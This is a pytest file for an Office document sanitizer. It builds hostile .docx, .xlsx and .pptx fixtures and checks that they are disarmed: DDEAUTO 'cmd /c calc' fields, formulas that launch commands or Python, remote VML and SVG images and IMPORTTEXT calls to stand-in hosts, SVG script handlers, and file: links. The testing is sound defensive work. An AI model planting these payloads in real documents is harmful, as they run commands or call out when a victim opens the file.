def test_field_keyword_completed_by_a_nested_field_is_removed(tmp_path, default_policy):
    from samples.office_samples import body_insert

    def fld(*parts: str) -> str:
        out = []
        for p in parts:
            if p in ("begin", "separate", "end"):
                out.append(f'<w:r><w:fldChar w:fldCharType="{p}"/></w:r>')
            elif p.startswith("t:"):
                out.append(f"<w:r><w:t>{p[2:]}</w:t></w:r>")
            else:
                out.append(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>')
        return "<w:p>" + "".join(out) + "</w:p>"

    glued = fld("begin", "begin", ' QUOTE "INCLUDE" ', "separate", "t:INCLUDE", "end",
                'PICTURE "http://203.0.113.5/x.png" \\d ', "separate", "t:写真", "end")
    legit = fld("begin", " IF ", "begin", " MERGEFIELD 性別 ", "separate", "t:女", "end", ' = "女" "様" "殿" ',
                "separate", "t:様", "end")
    base = make_docx(tmp_path / "base.docx", pictures=0)
    src = patch(base, tmp_path / "n.docx", edit={"word/document.xml": lambda s: body_insert(s, glued + legit)})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized" and [t.id for t in r.threats if t.id != "ooxml.metadata"] == ["ooxml.dde"], \
        r.threats
    doc = _read(r.output, "word/document.xml")
    assert "PICTURE" not in doc and "写真" in doc  # the displayed result stays
    assert "MERGEFIELD" in doc and " IF " in doc  # an ordinary nested field is kept


def test_vml_pictures_by_address_and_quoted_dde_and_new_functions(tmp_path, default_policy):
    from samples.office_samples import body_insert

    vml = ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
           'xmlns:o="urn:schemas-microsoft-com:office:office" id="s1" style="width:50pt;height:50pt">'
           '<v:imagedata src="http://203.0.113.5/a.png" o:href="file://203.0.113.5/s/x.png"/>'
           '<v:fill type="frame" src="\\\\203.0.113.5\\s\\b.png"/></v:shape></w:pict></w:r></w:p>')
    base = make_docx(tmp_path / "base.docx", pictures=0)
    src = patch(base, tmp_path / "v.docx", edit={"word/document.xml": lambda s: body_insert(s, vml)})
    r = process(src, src.name, tmp_path / "o", default_policy)
    doc = _read(r.output, "word/document.xml")
    assert r.verdict == "sanitized" and "203.0.113.5" not in doc and "<v:imagedata" in doc
    for f in ("'cmd'|'/c calc'!A0", '_xlfn._xlws.PY("import os",0)', '_xlfn.IMPORTTEXT("http://203.0.113.5/")',
              'STOCKHISTORY("MSFT",A1)'):
        assert X.formula_threat(f, "web"), f
    assert X.formula_threat('"a|b"&A1', "web") is None and X.formula_threat("'Sheet|1'!A1", "web") is None


def test_generic_content_type_does_not_spare_a_header_its_rules(tmp_path, default_policy):
    """LibreOffice loads a header by its relationship whatever content type it declares."""
    import re as _re

    base = make_docx(tmp_path / "base.docx", pictures=0)

    def ct(x: str) -> str:
        return _re.sub(r'(PartName="/word/header1.xml" ContentType=")[^"]+"', r'\1application/xml"', x)

    src = patch(base, tmp_path / "h.docx", edit={
        "[Content_Types].xml": ct,
        "word/header1.xml": lambda x: x.replace("</w:hdr>", '<w:p><w:fldSimple w:instr=" DDEAUTO cmd /c calc ">'
                                                           '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>', 1)})
    assert 'ContentType="application/xml"' in _read(src, "[Content_Types].xml")
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized" and "ooxml.dde" in {t.id for t in r.threats}
    assert "DDEAUTO" not in _read(r.output, "word/header1.xml")


def test_links_inside_the_workbook_are_kept(default_policy, tmp_path):
    """目次 sheets: HYPERLINK("#'歳入'!A1") and a cell link to "#マスタ!A1" (as openpyxl writes it) jump
    inside the file; they are kept, while a file: link is still removed."""
    import openpyxl

    wb = openpyxl.Workbook()
    toc = wb.active
    toc.title = "目次"
    wb.create_sheet("歳入")
    wb.create_sheet("マスタ")
    toc["A1"] = "=HYPERLINK(\"#'歳入'!A1\",\"歳入へ\")"
    toc["A2"] = "マスタへ"
    toc["A2"].hyperlink = "#マスタ!A1"
    toc["A3"] = '=HYPERLINK("file:///C:/secret.xlsx","開く")'
    toc["A4"] = '=HYPERLINK("#[Book2.xlsx]Sheet1!A1","別ブック")'
    src = tmp_path / "toc.xlsx"
    wb.save(src)
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert {t.id for t in r.threats if t.id != "ooxml.metadata"} == {"ooxml.hyperlink"}
    out = openpyxl.load_workbook(r.output)["目次"]
    assert out["A1"].value == "=HYPERLINK(\"#'歳入'!A1\",\"歳入へ\")"
    assert out["A2"].hyperlink is not None and out["A2"].hyperlink.target == "#マスタ!A1"
    assert "file:" not in str(out["A3"].value) and "Book2" not in str(out["A4"].value)


def test_svg_icon_is_sanitized_and_kept(tmp_path, default_policy):
    """An SVG icon (asvg:svgBlip in a:ext) goes through the SVG sanitizer and stays next to its PNG
    fallback: its script and handler go; when its relationship goes, no empty a:ext is left behind."""
    base = make_docx(tmp_path / "base.docx", pictures=1)
    svg_ext = ('<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
               '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
               'r:embed="rIdSvg1"/></a:ext></a:extLst>')

    def add_svg(xml: str) -> str:
        head, sep, tail = xml.partition("<a:blip ")
        attrs, _, rest = tail.partition("/>")
        return f"{head}{sep}{attrs}>{svg_ext}</a:blip>{rest}"

    def add_rel(target: str):
        return lambda xml: xml.replace("</Relationships>", (
            '<Relationship Id="rIdSvg1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/image" Target="{target}"/></Relationships>'))

    icon = (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">'
            b'<script>alert(2)</script><circle cx="5" cy="5" r="4" fill="#06c"/></svg>')
    ct = lambda x: x.replace("</Types>", '<Default Extension="svg" ContentType="image/svg+xml"/></Types>')  # noqa: E731
    src = patch(base, tmp_path / "icon.docx", edit={"word/document.xml": add_svg, "[Content_Types].xml": ct,
                                                     "word/_rels/document.xml.rels": add_rel("media/icon1.svg")},
                add={"word/media/icon1.svg": icon})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized" and "svg.script" in {t.id for t in r.threats}, r.threats
    doc = _read(r.output, "word/document.xml")
    svg = _read(r.output, "word/media/icon1.svg")
    assert "svgBlip" in doc and "<circle" in svg and "script" not in svg and "onload" not in svg
    assert re.search(r"<a:ext cx=\"\d+\" cy=\"\d+\"/>", doc)
    # An icon on a web server: the relationship goes, and so does the extension that used it.
    src = patch(base, tmp_path / "remote.docx", edit={"word/document.xml": add_svg, "[Content_Types].xml": ct,
                                                       "word/_rels/document.xml.rels": lambda x: add_rel(
                                                           "https://203.0.113.5/i.svg")(x).replace(
                                                           'Target="https://203.0.113.5/i.svg"',
                                                           'Target="https://203.0.113.5/i.svg" TargetMode="External"')})
    r = process(src, src.name, tmp_path / "o2", default_policy)
    doc = _read(r.output, "word/document.xml")
    assert "svgBlip" not in doc and "96DAC541" not in doc and re.search(r"<a:ext cx=\"\d+\" cy=\"\d+\"/>", doc)

def test_picture_placed_in_a_cell_is_kept(tmp_path, default_policy):
    """Excel 365 "place in cell" pictures: the rich-value relationship list and its images are kept."""
    import openpyxl
    from PIL import Image

    wb = openpyxl.Workbook()
    wb.active["A1"] = "写真"
    base = tmp_path / "base.xlsx"
    wb.save(base)
    png = io.BytesIO()
    Image.new("RGB", (8, 8), (255, 0, 0)).save(png, "PNG")
    rv_ns = "http://schemas.microsoft.com/office/spreadsheetml/2022/richvaluerel"
    r_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    src = patch(base, tmp_path / "cellpic.xlsx", edit={
        "xl/_rels/workbook.xml.rels": lambda x: x.replace("</Relationships>", (
            '<Relationship Id="rIdRV" Type="http://schemas.microsoft.com/office/2022/10/relationships/'
            'richValueRel" Target="richData/richValueRel.xml"/></Relationships>')),
        "[Content_Types].xml": lambda x: x.replace("</Types>", (
            '<Override PartName="/xl/richData/richValueRel.xml" '
            'ContentType="application/vnd.ms-excel.richvaluerel+xml"/>'
            '<Default Extension="png" ContentType="image/png"/></Types>'))}, add={
        "xl/richData/richValueRel.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                                        f'<richValueRels xmlns="{rv_ns}" xmlns:r="{r_ns}"><rel r:id="rId1"/>'
                                        f"</richValueRels>",
        "xl/richData/_rels/richValueRel.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/image" Target="../media/image1.png"/>'
            "</Relationships>"),
        "xl/media/image1.png": png.getvalue()})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "clean", r.threats
    with _zip(r.output) as z:
        assert _pixels(z.read("xl/media/image1.png")) == _pixels(png.getvalue())
        assert "xl/richData/richValueRel.xml" in z.namelist()


def test_very_hidden_sheet_becomes_hidden(default_policy, tmp_path):
    """A veryHidden sheet (not listed by Excel's 再表示) comes out hidden and is reported; a hidden one
    stays hidden and is named in the report."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.title = "申請"
    wb.create_sheet("設定").sheet_state = "veryHidden"
    wb.create_sheet("控え").sheet_state = "hidden"
    src = tmp_path / "hidden.xlsx"
    wb.save(src)
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized"
    found = {(t.id, t.location.rsplit(": ", 1)[-1], t.action) for t in r.threats if t.id == "ooxml.hidden_sheet"}
    assert found == {("ooxml.hidden_sheet", "設定", "converted"), ("ooxml.hidden_sheet", "控え", "reported")}
    out = openpyxl.load_workbook(r.output)
    assert [(ws.title, ws.sheet_state) for ws in out.worksheets] == [("申請", "visible"), ("設定", "hidden"),
                                                                     ("控え", "hidden")]
    assert not [t for t in inspect_ooxml(_ctx(tmp_path), Path(r.output)) if t.id == "ooxml.hidden_sheet"]
    # The original, inspected: the very hidden sheet is a finding.
    assert [t.location for t in inspect_ooxml(_ctx(tmp_path), src) if t.id == "ooxml.hidden_sheet"] == [
        "xl/workbook.xml: 設定"]


@pytest.mark.parametrize("attr", ['src ="http://evil.example/a.png"', 'src\n= "file://evil.example/share/a.png"',
                                  "o:src\t=\t'http://evil.example/a.png'"])
def test_vml_picture_by_address_with_blanks_around_the_equals_sign_is_removed(tmp_path, default_policy, attr):
    """XML allows blanks around "=": the byte check for VML pictures by address looked for `src=` only, so
    `src ="http://..."` in a story was proven link-free and written as read (Word fetches it on open)."""
    from samples.office_samples import body_insert

    pict = ('<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:'
            f'office:office"><v:shape id="s1" style="width:9pt;height:9pt"><v:imagedata {attr}/></v:shape>'
            '</w:pict></w:r></w:p>')
    base = make_docx(tmp_path / "base.docx", pictures=0)
    src = patch(base, tmp_path / "vml.docx", edit={"word/document.xml": lambda s: body_insert(s, pict)})
    assert X.may_link(_zip(src).read("word/document.xml"))
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized" and "ooxml.external_relationship" in {t.id for t in r.threats}, r.threats
    doc = _read(r.output, "word/document.xml")
    assert "evil.example" not in doc and "v:imagedata" in doc


def test_byte_triggers_of_links_and_of_roles_written_as_read():
    """may_link finds what disarm_links acts on, not a theme's a:hlink colour; untouched() keeps a slide,
    chart or presentation part only without what its disarm function would change."""
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    theme = f'<a:theme xmlns:a="{a}"><a:clrScheme name="x"><a:hlink><a:srgbClr val="0563C1"/></a:hlink>' \
            '<a:folHlink><a:srgbClr val="954F72"/></a:folHlink></a:clrScheme></a:theme>'
    assert not X.may_link(theme.encode()) and X.untouched(theme.encode(), "")
    for link in ('<a:hlinkClick r:id="" action="ppaction://program"/>', '<a:hlinkHover r:id=""/>',
                 '<a:hlinkMouseOver r:id=""/>', '<v:fill o:althref="x"/>', '<v:shape href="x"/>',
                 '<v:imagedata src="x"/>', "<v:imagedata src  =  'x'/>"):
        assert X.may_link(theme.replace("<a:clrScheme", link + "<a:clrScheme").encode()), link
    p, c = _P, "http://schemas.openxmlformats.org/drawingml/2006/chart"
    slide = f'<p:sld xmlns:p="{p}"><p:cSld><p:spTree/></p:cSld></p:sld>'
    assert X.untouched(slide.encode(), "slide")
    changed = {
        "slide": (slide.replace("<p:spTree/>", '<p:spTree><p:graphicFrame><p:oleObj progId="x"/>'
                                '<p:pic/></p:graphicFrame></p:spTree>'), lambda r: X.disarm_slide(r, set(), _no)),
        "chart": (f'<c:chartSpace xmlns:c="{c}"><c:externalData><c:autoUpdate val="1"/></c:externalData>'
                  '</c:chartSpace>', lambda r: X.disarm_chart(r, _no)),
        "pres": (f'<p:presentation xmlns:p="{p}"><p:embeddedFontLst><p:embeddedFont/></p:embeddedFontLst>'
                 '</p:presentation>', X.disarm_presentation),
    }
    for role, (xml, disarm) in changed.items():
        root = X.parse(xml.encode())
        disarm(root)
        assert X.serialize(root) != X.serialize(X.parse(xml.encode())), role  # a real trigger
        assert not X.untouched(xml.encode(), role), role
    verb = slide.replace("</p:sld>", '<p:timing><p:tnLst><p:par><p:cmd type="verb" cmd="0"/></p:par></p:tnLst>'
                         "</p:timing></p:sld>")
    assert not X.untouched(verb.encode(), "slide")
    # A chart's data reference: only one that may name another workbook, call or escape sends it to the tree.
    ref = f'<c:chartSpace xmlns:c="{c}"><c:val><c:numRef><c:f>{{}}</c:f></c:numRef></c:val></c:chartSpace>'
    assert X.untouched(ref.format("Sheet1!$B$2:$B$4").encode(), "chart")
    for f in ("[1]Sheet1!$B$2", "'\\\\h\\s\\[x.xlsx]S'!$B$2", "&#91;1]S!A1", "<![CDATA[[1]S!A1]]>", "(S!A1,S!A3)"):
        assert not X.untouched(ref.format(f).encode(), "chart") and not X.quiet(ref.format(f).encode(), "chart"), f
    for role in ("app", "vml", "word_settings", "workbook", "drawing", "ctrlprop"):
        assert not X.untouched(slide.encode(), role), role  # always parsed


def _no(*_a: object) -> None:
    return None


def test_slides_without_ole_or_verbs_keep_their_bytes(tmp_path, default_policy):
    from samples.office_samples import make_pptx

    src = make_pptx(tmp_path / "deck.pptx", slides=3)
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "clean", r.threats
    with _zip(src) as a, _zip(r.output) as b:
        slides = [n for n in a.namelist() if re.fullmatch(r"ppt/(slides|slideLayouts|slideMasters)/[^/]+\.xml", n)]
        assert len(slides) >= 3
        for name in slides + ["ppt/theme/theme1.xml"]:
            assert a.read(name) == b.read(name), name


def test_reference_only_elements_without_a_relationship_id_are_removed(tmp_path, default_policy):
    """An OLE object or template element whose r:id is gone (damaged, or its prefix bound elsewhere so
    that the vocabulary removed the attribute) points nowhere, yet a reader may still offer it: removed,
    whether the part takes the tree path or would have been written as read."""
    from samples.office_samples import body_insert, make_xlsx

    ole = ('<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s9" style="width:9pt;'
           'height:9pt"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
           'ProgID="Package" ShapeID="s9" ObjectID="_1"/></w:object></w:r></w:p>')
    base = make_docx(tmp_path / "base.docx", pictures=0)
    src = patch(base, tmp_path / "ole.docx", edit={"word/document.xml": lambda s: body_insert(s, ole)})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized" and "ooxml.ole_object" in {t.id for t in r.threats}, r.threats
    doc = _read(r.output, "word/document.xml")
    assert "OLEObject" not in doc and "v:shape" in doc
    assert not X.untouched(body_insert(_read(base, "word/document.xml"), ole).encode(), "word_story")

    book = make_xlsx(tmp_path / "book.xlsx", rows=3)
    with _zip(book) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
    x = patch(book, tmp_path / "ole.xlsx", edit={sheet: lambda s: s.replace(
        "</worksheet>", '<oleObjects><oleObject progId="Package" shapeId="1025"/></oleObjects></worksheet>', 1)})
    r = process(x, x.name, tmp_path / "ox", default_policy)
    assert r.verdict == "sanitized" and "ooxml.ole_object" in {t.id for t in r.threats}, r.threats
    assert "oleObject" not in _read(r.output, sheet)


def test_a_part_whose_root_prefix_is_unbound_is_blocked_with_a_reason(tmp_path, default_policy):
    """The root-name peek reads damaged parts with a recovering parser, which can leave the root's prefix
    unbound: lxml's QName then raised ValueError and the clerk read "could not be parsed (ValueError)"
    (a 10-minute fuzz run: one flipped byte in a CRC-damaged stylesWithEffects.xml)."""
    src = make_docx(tmp_path / "plain.docx")
    for pad in (0, 300_000):  # read whole, and (over 256 KiB) through a stream
        bad = patch(src, tmp_path / f"unbound{pad}.docx", edit={"word/styles.xml": lambda x, pad=pad: x.replace(
            'xmlns:w="', 'xmlns:q="', 1).replace("<w:docDefaults>", "<w:docDefaults>" + " " * pad, 1)})
        r = process(bad, bad.name, tmp_path / f"o{pad}", default_policy)
        assert r.verdict == "blocked" and "file.malformed" in {t.id for t in r.threats}, r.threats
        assert "not well-formed" in r.reason_en and "ValueError" not in r.reason_en, r.reason_en


def test_a_picture_over_the_pixel_limit_blocks_the_document_naming_it(tmp_path, default_policy):
    import dataclasses as dc

    base = make_docx(tmp_path / "base.docx")
    with _zip(base) as z:
        (name,) = [n for n in z.namelist() if n.startswith("word/media/")]
    pol = dc.replace(default_policy, limits=dc.replace(default_policy.limits, max_pixels=10))
    r = process(base, base.name, tmp_path / "o", pol)
    assert r.verdict == "blocked" and f"the picture {name} in the document" in r.reason_en, r.reason_en
